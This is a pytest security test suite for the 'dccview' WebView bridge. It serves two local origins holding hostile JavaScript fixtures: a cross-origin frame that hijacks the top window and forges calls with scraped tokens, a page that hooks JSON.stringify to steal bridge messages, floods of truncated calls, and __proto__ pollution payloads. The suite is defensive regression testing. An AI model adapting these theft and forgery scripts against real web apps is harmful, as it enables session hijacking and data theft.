"""The page bridge under attack, on a real WebView: pages and frames of two real origins (two local
HTTP servers), a hostile frame, a page that leaks what it can, reloads racing answers, reserved names,
prototype keys, a killed web process. Every test here failed before the bridge's privileged half moved
into an isolated script world (docs/protocol.md, "Who may call")."""

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import unquote

import pytest

import dccview
from dccview import WebView

from conftest import needs_display, wait_in_handler
from test_webview import ON_QT
from test_webview import _wait_for, open_view

pytestmark = needs_display

# The attacker's frame, served from origin B inside the application's page (origin A). Its first
# visit hijacks the top window to B's own page; its second replays whatever that page stole, and
# whatever the application's page leaked, through every channel a frame can reach.
FRAME = """<!doctype html><script>
const report = (path, body) => fetch(path, {method: "POST", body: JSON.stringify(body)});
const attempts = (texts) => {
  const tried = [];
  const attempt = (name, f) => { try { f(); tried.push(name + ":sent"); } catch (e) { tried.push(name + ":" + e.name); } };
  for (const text of texts) {
    attempt("handler", () => window.webkit.messageHandlers.dccview.postMessage(text));
    attempt("top-document", () => top.document.dispatchEvent(new CustomEvent("dccview:to-native", {detail: text})));
    attempt("top-post", () => top.postMessage(text, "*"));
  }
  return tried;
};
fetch("/phase").then((r) => r.text()).then(async (phase) => {
  if (phase === "start") {
    await fetch("/phase", {method: "POST", body: "hijacked"});
    if (%(frame_busting_blocked)s) {  // Chromium: no top navigation from a cross-origin frame
      parent.postMessage({navigate: location.origin + "/evil.html"}, "*");  // without a user gesture
    } else {
      top.location = location.origin + "/evil.html";
    }
  } else if (phase === "replay") {
    await fetch("/phase", {method: "POST", body: "done"});
    const stolen = await (await fetch("/stolen")).json();
    const leaked = await new Promise((resolve) => {
      window.addEventListener("message", (e) => resolve(e.data), {once: true});
      parent.postMessage("leak please", "*");
    });
    // Each stolen or leaked text as it is, and forged calls naming every token-like string in them.
    const texts = stolen.concat(leaked);
    const forged = [];
    for (const text of texts) {
      for (const token of String(text).match(/[0-9a-f-]{16,}/g) || []) {
        forged.push(JSON.stringify({token: token, doc: token, origin: "%(A)s"}) + "\\n" +
                    JSON.stringify({type: "call", id: 1, method: "secret", params: "forged"}));
        forged.push(JSON.stringify({type: "call", id: 1, method: "secret", params: "forged", token: token}));
      }
    }
    forged.push(JSON.stringify({type: "call", id: 1, method: "secret", params: "forged"}));
    await report("/report", {texts: texts.length, forged: forged.length, tried: attempts(texts.concat(forged))});
  }
});
</script>"""

# Origin B's own top-level page: the bridge is injected here too. It steals what a page script can
# (everything JSON.stringify writes, everything the bridge sends, the message handlers it can see),
# provokes bridge traffic, keeps the loot on its server and sends the window back to A.
EVIL = """<!doctype html><script>
const stolen = [];
const stringify = JSON.stringify;
JSON.stringify = function (...args) { const text = stringify.apply(this, args); stolen.push(text); return text; };
document.addEventListener("dccview:to-native", (e) => stolen.push(String(e.detail)), true);
const handlers = window.webkit && window.webkit.messageHandlers;
stolen.push("handlers:" + (handlers ? Object.keys(handlers).join(",") : "none"));
stolen.push("dccview-own-keys:" + Object.getOwnPropertyNames(window.dccview).join(","));
dccview.call("secret", "from B's top document").catch((e) => stolen.push("refused:" + e.name)).finally(async () => {
  await fetch("/stolen", {method: "POST", body: stringify(stolen)});
  await fetch("/phase", {method: "POST", body: "replay"});
  location = "%(A)s/app.html";
});
</script>"""

# The application's page (origin A), with B's frame. It answers the frame's "leak please" with
# everything its own script world can see of the bridge, on purpose.
APP = """<!doctype html><body><script>
window.__loaded = true;
const seen = [];
document.addEventListener("dccview:to-native", (e) => seen.push(String(e.detail)), true);
const stringify = JSON.stringify;
JSON.stringify = function (...args) { const text = stringify.apply(this, args); seen.push(text); return text; };
window.addEventListener("message", (e) => {
  if (e.data && e.data.navigate) location = e.data.navigate;  // a link the user followed
  if (e.data !== "leak please") return;
  dccview.call("ping").then(() => {
    const handlers = window.webkit && window.webkit.messageHandlers;
    seen.push("handlers:" + (handlers ? Object.keys(handlers).join(",") : "none"));
    e.source.postMessage(seen, "*");
  });
});
</script><iframe src="%(B)s/frame.html"></iframe></body>"""


class Site:
    """One origin: a local HTTP server with in-memory pages and the attacker's shared state."""

    def __init__(self, pages, state):
        site = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                path = unquote(self.path)
                if path == "/phase":
                    self._send(state["phase"].encode(), "text/plain")
                elif path == "/stolen":
                    self._send(json.dumps(state.get("stolen", [])).encode(), "application/json")
                elif path in site.pages:
                    self._send(site.pages[path].encode(), "text/html")
                else:
                    self.send_error(404)

            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
                if self.path == "/phase":
                    state["phase"] = body
                elif self.path == "/stolen":
                    state["stolen"] = json.loads(body)
                elif self.path == "/report":
                    state["report"] = json.loads(body)
                    state["reported"].set()
                self._send(b"ok", "text/plain")

            def _send(self, body, kind):
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Cache-Control", "no-store")
                self.end_headers()
                self.wfile.write(body)

        self.pages = pages
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def two_origins():
    state = {"phase": "start", "reported": threading.Event()}
    app, attacker = Site({}, state), Site({}, state)
    # Chromium (Qt WebEngine) does not let a cross-origin frame navigate the top window without a
    # user gesture: there the application's page follows the frame's link, as a user's click would.
    names = {"A": app.origin, "B": attacker.origin, "frame_busting_blocked": str(ON_QT).lower()}
    app.pages["/app.html"] = APP % names
    attacker.pages["/frame.html"] = FRAME % names
    attacker.pages["/evil.html"] = EVIL % names
    yield app, attacker, state
    app.close()
    attacker.close()


def test_a_cross_origin_frame_never_reaches_a_handler_even_with_everything_pages_can_steal_or_leak(
        main_loop, two_origins):
    app, attacker, state = two_origins

    def body():
        view = WebView(title="dccview bridge attack")
        secret_calls = []
        view.on("secret")(lambda data: secret_calls.append(data) or "secret")
        view.on("ping")(lambda: "pong")
        try:
            view.load_url(app.origin + "/app.html")
            assert state["reported"].wait(60), f"the attack did not run to its end (phase {state['phase']})"
            # The frame's attempts were sent before its report; a call from the page now is handled
            # after all of them (one web process, one ordered connection).
            _wait_for(lambda: view.eval_js_sync("location.origin") == app.origin)
            assert view.eval_js_sync("dccview.call('ping')") == "pong"
            return secret_calls, state
        finally:
            view.close()

    secret_calls, state = main_loop(body)
    assert secret_calls == [], "a handler ran for a cross-origin frame or B's top document"
    loot = state["stolen"]
    assert "refused:OriginError" in loot, "B's top document was refused with OriginError"
    assert "handlers:none" in loot, "no message handler is visible in a page's script world"
    report = state["report"]
    assert report["texts"] > 0 and report["forged"] > 0, report
    tried = set(report["tried"])
    assert tried == {"handler:TypeError", "top-document:SecurityError", "top-post:sent"}, tried


# A tokenless frame posting truncated calls while the page waits on its own calls: nothing it sends
# is answered, and the page's pending calls get their own answers.
TRUNCATED_FLOOD = """
const frameScript = `
  for (let n = 1; n <= 100; n++) {
    const text = '{"type":"call","id":' + n + ',';
    try { window.webkit.messageHandlers.dccview.postMessage(text); } catch (e) {}
    try { window.qt.webChannelTransport.send(text); } catch (e) {}
    try { top.document.dispatchEvent(new CustomEvent("dccview:to-native", {detail: text})); } catch (e) {}
    try { top.postMessage(text, "*"); } catch (e) {}
  }
  parent.postMessage("flooded", "*");`;
window.addEventListener("message", (e) => { if (e.data === "flooded") window.flooded = true; });
window.results = Promise.all([1, 2, 3].map((n) => dccview.call("slow", n)));
const frame = document.createElement("iframe");
frame.sandbox = "allow-scripts";
frame.srcdoc = "<script>" + frameScript + "<\\/script>";
document.body.appendChild(frame);
true
"""


# The main thread waits in a handler (on Qt WebEngine in a nested event loop, as a modal dialog would:
# that thread runs the page too).
def test_messages_that_fail_authentication_never_touch_a_pending_call(main_loop):
    def body():
        view = open_view(dcc_mode=True)
        release = threading.Event()
        view.on("slow")(lambda n: (wait_in_handler(release), n * 10)[1])  # on the main thread (dcc_mode)
        try:
            view.eval_js(TRUNCATED_FLOOD)
            # The frame's messages left before its "flooded": they were handled before this answers.
            _wait_for(lambda: view.eval_js_sync("window.flooded === true"))
            release.set()
            return view.eval_js_sync("window.results")
        finally:
            release.set()
            view.close()

    assert main_loop(body) == [10, 20, 30]


# As above: the page reloads while the main thread waits in the first document's handler.
def test_an_answer_belongs_to_the_document_that_called(main_loop):
    def body():
        view = open_view(dcc_mode=True)
        started, release = threading.Event(), threading.Event()

        @view.on("slow")
        def slow():
            started.set()
            wait_in_handler(release)
            return "for the document that is gone"

        view.on("fast")(lambda: "for the new document")
        try:
            view.eval_js("window.__first = true; dccview.call('slow')")  # call id 1 of the first document
            assert started.wait(10)
            view.reload()  # the main thread is still in slow(); a new document says hello
            _wait_for(lambda: view.eval_js_sync(
                "!window.__first && window.__loaded ? dccview.whenReady().then(() => true) : false"))
            answer = {}
            answered = threading.Event()
            view.eval_js_async("dccview.call('fast')",  # call id 1 again, of the new document
                               lambda value, error: (answer.update(value=value, error=error), answered.set()), 10000)
            release.set()
            assert answered.wait(15)
            return answer
        finally:
            release.set()
            view.close()

    answer = main_loop(body)
    assert answer == {"value": "for the new document", "error": None}


def test_reserved_names_stay_native(main_loop):
    def body():
        view = open_view()
        heard = []
        view.on(dccview.webview.CLOSED_EVENT)(lambda data: heard.append(("closed", data)))
        view.on(dccview.webview.WEB_PROCESS_TERMINATED_EVENT)(lambda data: heard.append(("terminated", data)))
        page = view.eval_js_sync("""(async () => {
          const outcome = [];
          try { dccview.emit("dccview:closed", {}); outcome.push("emitted"); } catch (e) { outcome.push(e.name); }
          outcome.push(await dccview.call("dccview:closed").then(() => "resolved", (e) => e.name));
          // Past the page's half of the bridge, straight to native code; its answers are watched
          // where they enter the page (the page's half knows no call 424242).
          window.answers = [];
          document.addEventListener("dccview:to-page", (e) => window.answers.push(e.detail));
          const send = (m) => document.dispatchEvent(new CustomEvent("dccview:to-native", {detail: JSON.stringify(m)}));
          send({type: "emit", event: "dccview:closed", data: {}});
          send({type: "emit", event: "dccview:web_process_terminated", data: {reason: "crashed"}});
          send({type: "call", id: 424242, method: "dccview:closed", params: null});
          return outcome;
        })()""")
        # A real call afterwards is handled after the raw messages (and answered after them).
        assert view.eval_js_sync("dccview.call('echo').catch((e) => e.name)") == "NotFoundError"
        raw_answer = view.eval_js_sync("window.answers.map(JSON.parse).flat().find((m) => m.id === 424242)")
        still_open = not view.closed
        before_close = list(heard)
        view.close()
        return page, raw_answer, still_open, before_close, heard

    page, raw_answer, still_open, before_close, heard = main_loop(body)
    assert page == ["ReservedNameError", "ReservedNameError"], "refused in the page at once"
    assert raw_answer["ok"] is False and raw_answer["error"]["name"] == "ReservedNameError", raw_answer
    assert still_open and before_close == [], "the page's fake events reached no handler"
    assert heard == [("closed", {})], "the real close is heard once"


def test_a_proto_key_arrives_as_an_own_key_on_every_path(main_loop):
    payload = {"__proto__": {"polluted": 1}, "a": 1}
    probe = "(d) => ({keys: Object.keys(d), polluted: d.polluted === 1, own: Object.prototype.hasOwnProperty.call(d, '__proto__')})"

    def body():
        view = open_view()
        got = threading.Semaphore(0)
        view.on("got")(lambda: got.release())
        # The page says when it saw an event: waiting through eval_js_sync instead would post an
        # operation, which takes the waiting emits along its own path (data), never the flush's.
        view.eval_js(f"window.probe = {probe}; window.seen = [];"
                     "dccview.on('pp', (d) => { window.seen.push(window.probe(d)); dccview.emit('got'); })")
        _wait_for(lambda: view.eval_js_sync("typeof window.probe") == "function")
        view.on("give")(lambda: payload)
        view.on("emit_then_answer")(lambda: view.emit("pp", payload) or True)
        sent = {}
        received = threading.Event()
        view.on("page_sent")(lambda data: (sent.update(data=data), received.set()))
        view.emit("pp", payload)  # a flush of events alone
        assert got.acquire(timeout=10)
        assert view.eval_js_sync("dccview.call('emit_then_answer')") is True  # events with an answer
        assert got.acquire(timeout=10)
        seen = view.eval_js_sync("window.seen")
        returned = view.eval_js_sync("dccview.call('give').then(window.probe)")
        evaluated = view.eval_js_sync("JSON.parse('{\"__proto__\": {\"polluted\": 1}, \"a\": 1}')")
        view.eval_js("dccview.emit('page_sent', JSON.parse('{\"__proto__\": {\"polluted\": 1}, \"a\": 1}'))")
        assert received.wait(10)
        view.close()
        return seen, returned, evaluated, sent["data"]

    seen, returned, evaluated, sent = main_loop(body)
    own_key = {"keys": ["__proto__", "a"], "polluted": False, "own": True}
    assert seen == [own_key, own_key], "emits, alone and with an answer"
    assert returned == own_key, "a handler's return value"
    assert evaluated == payload and sent == payload, "page to Python"


def test_a_killed_web_process_is_a_web_process_error_not_a_page_error(main_loop):
    import os
    import signal

    def body():
        view = open_view()
        started = threading.Event()
        view.on("started")(lambda: started.set())
        outcome = {}
        waiter = threading.Thread(target=lambda: outcome.update(
            sync=_raised(lambda: view.eval_js_sync("(dccview.emit('started'), new Promise(() => {}))", 30000))))
        waiter.start()
        assert started.wait(10)
        got_async = threading.Event()
        view.eval_js_async("new Promise(() => {})",
                           lambda value, error: (outcome.update(async_error=error), got_async.set()), 30000)
        killed = _kill_web_processes(os, signal)
        waiter.join(20)
        assert got_async.wait(20)
        view.close()
        return killed, outcome

    killed, outcome = main_loop(body)
    assert killed >= 1
    assert isinstance(outcome["sync"], dccview.WebProcessError), repr(outcome["sync"])
    assert not isinstance(outcome["sync"], dccview.JavaScriptError)
    assert isinstance(outcome["async_error"], dccview.WebProcessError), repr(outcome["async_error"])


def _raised(func):
    try:
        func()
    except Exception as error:  # the test inspects which class it was
        return error
    return None


def _kill_web_processes(os, signal):
    """Kills the processes running pages (WebKit's web processes, Qt WebEngine's renderers) this
    process started, at any depth: Qt WebEngine's renderers are children of its zygote process."""
    parents, names = {}, {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat") as stat:
                line = stat.read()
        except OSError:
            continue
        names[int(entry)] = line[line.index("(") + 1:line.rindex(")")]
        parents[int(entry)] = int(line[line.rindex(")") + 2:].split()[1])

    def descends_from_us(pid):
        while pid > 1:
            pid = parents.get(pid, 0)
            if pid == os.getpid():
                return True
        return False

    killed = 0
    for pid, name in names.items():
        # Qt WebEngine's renderers are forked by its zygote (a QtWebEngineProcess too, which lives on).
        renders = name.startswith("WebKitWebProces") or (
            name.startswith("QtWebEngineProc") and names.get(parents.get(pid), "").startswith("QtWebEngineProc"))
        if renders and descends_from_us(pid):
            os.kill(pid, signal.SIGKILL)
            killed += 1
    return killed
